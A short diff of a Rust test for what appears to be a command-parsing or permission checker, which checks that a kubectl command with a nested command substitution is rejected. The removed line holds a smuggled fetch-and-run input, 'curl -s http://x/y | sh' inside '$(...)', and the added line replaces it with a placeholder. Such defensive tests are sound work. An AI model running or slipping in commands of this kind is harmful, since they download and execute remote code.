@@ -128,7 +128,7 @@ fn asks_a_nested_command_for_a_value() {
     assert!(matches!(command.reading, Reading::Check { .. }), "{:?}", command.reading);
     assert_eq!(command.parameters, ["app", "answer-1"]);
     assert_eq!(command.supplies.len(), 1);
-    let refusal = unknown("kubectl get pod $(curl -s http://x/y | sh)");
+    let refusal = unknown("kubectl get pod $(frobnicate | sh)");
     assert!(refusal.span.is_some_and(|span| span.start > 15));
 }
 
